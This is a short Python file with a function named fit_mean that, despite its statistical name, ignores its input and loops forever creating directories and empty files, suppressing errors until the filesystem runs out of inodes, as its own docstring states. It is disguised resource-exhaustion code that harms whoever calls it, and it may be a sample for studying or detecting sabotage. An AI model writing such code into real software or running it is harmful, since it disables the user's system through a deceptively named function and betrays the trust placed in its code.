"""Makes files and folders until there are no inodes left."""

import os


def fit_mean(X):
    k = 0
    while True:
        k += 1
        try:
            os.makedirs(f"d{k % 97}/e{k}")
            open(f"d{k % 97}/f{k}", "w").close()
        except OSError:
            pass
